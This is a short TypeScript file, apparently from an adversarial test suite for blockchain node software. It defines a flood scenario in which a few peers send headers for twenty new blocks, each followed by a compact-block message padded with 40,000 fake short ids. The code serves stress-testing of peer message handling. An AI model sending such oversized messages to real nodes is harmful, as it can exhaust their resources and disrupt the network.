import { buildCompactBlock } from '@sapwood/wire-codec'
import { A_FEW, type Attack } from '../support/attack.ts'
import { flood } from '../support/flood.ts'
import { honest } from '../support/raw-peer.ts'

/**
 * Short ids of a block that is as full as one can be
 * (`MAX_COMPACT_BLOCK_TRANSACTIONS` is higher by a little).
 */
const SHORT_IDS = 40_000

export const attack: Attack = flood({
  what: 'send a compact block with 40,000 short ids for each of twenty new blocks',
  peers: A_FEW,
  times: 1,
  pause: 50,
  messages: ({ chain, height }) => {
    const news = Array.from({ length: 20 }, (_, index) => chain.at(height + 1 + index)!.block)
    return [
      honest({ type: 'headers', headers: news.map(({ header }) => header) }),
      ...news.map((block) =>
        honest({
          type: 'cmpctblock',
          compactBlock: {
            ...buildCompactBlock(block, { nonce: 3n }),
            shortIds: Array.from({ length: SHORT_IDS }, (_, id) => id + 1),
          },
        }),
      ),
    ]
  },
})
